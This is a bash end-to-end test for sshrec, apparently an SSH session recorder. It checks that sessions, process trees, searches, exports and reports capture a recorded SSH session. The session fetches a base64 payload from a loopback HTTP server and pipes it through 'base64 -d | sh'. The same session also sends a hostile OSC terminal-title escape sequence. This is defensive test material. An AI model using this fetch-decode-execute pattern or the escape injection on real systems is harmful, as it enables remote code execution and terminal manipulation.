#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# sshrec on real recordings (sshd + pam_sshrec + sshrecd): a session that
# runs a pipeline, a failed exec, a hostile OSC title sequence and a
# connect, then every subcommand is checked against it, and `status`
# against the running daemon (and its clear error once the daemon is gone).
. "$SR_TOP_SRCDIR/tests/e2e/lib.sh"
sr_init
[ -x "$SR_SSHREC" ] || sr_die "sshrec not built at $SR_SSHREC"
sr_start_daemon
sr_start_sshd
R() { "$SR_SSHREC" --db "$SR_DB" --socket "$SR_SOCK" --color never "$@"; }
no_ctl() { ! LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$1"; }

# a payload served as base64 on loopback, fetched and run like an attacker would
PORT=$(sr_free_port)
mkdir -p "$SR_T/www"
printf 'id >/dev/null\nuname -s >/dev/null\n' | base64 >"$SR_T/www/x.b64"
"$SR_PY" -m http.server "$PORT" --bind 127.0.0.1 --directory "$SR_T/www" >/dev/null 2>&1 &
SR_PIDS+=($!)
for _ in $(seq 50); do curl -sf "http://127.0.0.1:$PORT/x.b64" >/dev/null && break; sleep 0.1; done

sr_ssh "curl -s http://127.0.0.1:$PORT/x.b64 | base64 -d | sh; /tmp/nosuchcmd-sshrec 2>/dev/null; /usr/bin/printf %s \$'\\e]0;pwned\\a' >/dev/null; cat /etc/hostname >/dev/null; true" ||
	sr_fail "the ssh command failed"
SID=$(sr_last_sid root)
[ -n "$SID" ] || sr_die "no session recorded"
sr_wait_ended "$SID" 20 || sr_fail "session $SID did not end"

R sessions >"$SR_T/sessions.txt"
sr_check "sessions lists the login (no terminal: tty -)" grep -Eq "^$SID +root +127\.0\.0\.1:[0-9]+ +- +SHA256:" "$SR_T/sessions.txt"
sr_check "sessions shows the key fingerprint" grep -qF " ${SR_KEY_FP:0:19}" "$SR_T/sessions.txt"
sr_check_eq "sessions --user root --json" "$SID" "$(R sessions --user root --json | jq -r '.[-1].sid')"

R timeline "${SID:0:8}" >"$SR_T/tl.txt"
sr_check "timeline: no control characters" no_ctl "$SR_T/tl.txt"
sr_check "timeline: the OSC sequence (real ESC and BEL bytes in argv) shows escaped" grep -qF "/usr/bin/printf %s '\\e]0;pwned\\x07'" "$SR_T/tl.txt"
sr_check "timeline: the failed exec" grep -qE '/tmp/nosuchcmd-sshrec .*= exec failed: ENOENT' "$SR_T/tl.txt"
sr_check "timeline: the connect" grep -qE "connect +127\.0\.0\.1:[0-9]+ -> 127\.0\.0\.1:$PORT" "$SR_T/tl.txt"

R tree "$SID" --net >"$SR_T/tree.txt"
sr_check "tree: curl with its connection" \
	grep -Pzq "curl -s http://127\.0\.0\.1:$PORT/x\.b64  \[pid \d+, exit 0[^]]*\]\n[ |]*\`- connect 127\.0\.0\.1:$PORT" "$SR_T/tree.txt"
# the members of a pipeline exec in any order: each is a child of the shell
sr_check "tree: base64 -d beside curl" grep -Eq '^   \|- base64 -d  \[pid [0-9]+, exit 0' "$SR_T/tree.txt"
sr_check "tree: sh with what it ran" \
	grep -Pzq "\n   [|\`]- sh  \[pid \d+, exit 0[^]]*\]\n   [| ]  \|- id  \[pid \d+, exit 0[^]]*\]\n   [| ]  \`- uname -s  \[" "$SR_T/tree.txt"
sr_check "tree: failed exec" grep -q "/tmp/nosuchcmd-sshrec  \[pid [0-9]*, exec failed: ENOENT" "$SR_T/tree.txt"
sr_check "tree: no control characters" no_ctl "$SR_T/tree.txt"

sr_check_eq "search --command curl" "$SID" "$(R search --command curl --json | jq -r '.[-1].sid')"
sr_check_eq "search --path /etc/hostname" "$SID" "$(R search --path /etc/hostname --json | jq -r '.[-1].sid')"
sr_check_eq "search --dst" "$SID" "$(R search --dst "127.0.0.1:$PORT" --json | jq -r '.[-1].sid')"

R export --sid "$SID" -o "$SR_T/s.jsonl"
sr_check_eq "export jsonl: the session's records" "$(sr_sql "SELECT count(*) FROM events e JOIN sessions s ON s.id=e.session_id WHERE s.sid='$SID'")" "$(wc -l <"$SR_T/s.jsonl")"
sr_check "export jsonl lines are the JSON-lines sink's records" sh -c "grep -qF \"\$(head -1 '$SR_T/s.jsonl')\" '$SR_JSONL'"
sr_check "export ecs: entry leader is the ssh session" sh -c \
	"'$SR_SSHREC' --db '$SR_DB' export --sid $SID --format ecs | jq -e -s 'all(.process.entry_leader.entity_id == \"$SID\" and .process.entry_leader.entry_meta.type == \"sshd\")' >/dev/null"
sr_check "export ocsf: curl's connect is Network Activity" sh -c \
	"'$SR_SSHREC' --db '$SR_DB' export --sid $SID --format ocsf 2>/dev/null | jq -e -s 'any(.class_uid == 4001 and .dst_endpoint.port == $PORT and .type_uid == 400101)' >/dev/null"
sr_check "report renders" R report "$SID" -o "$SR_T/r.html"
sr_check "report: the OSC sequence is inert text" grep -qF '\x1b]0;pwned\x07' "$SR_T/r.html"
sr_check "report: no control characters" no_ctl "$SR_T/r.html"

R status >"$SR_T/status.txt"
sr_check "status: the daemon answers" grep -q '^sshrecd .* (pid [0-9]*), running since' "$SR_T/status.txt"
sr_check "status: sink health" grep -Eq '^sqlite +ok ' "$SR_T/status.txt"
sr_check_eq "status --json: pid" "$SR_DAEMON_PID" "$(R status --json | jq .pid)"
sr_stop_daemon
rc=0
R status >/dev/null 2>"$SR_T/status.err" || rc=$?
sr_check_eq "status without a daemon: exit 1" 1 "$rc"
sr_check "status without a daemon: one clear line" grep -qx "sshrec: sshrecd is not running (no daemon listening on $SR_SOCK)" "$SR_T/status.err"
sr_check_eq "the DB still reads without the daemon" "$SID" "$(R sessions --json | jq -r '.[-1].sid')"

sr_finish
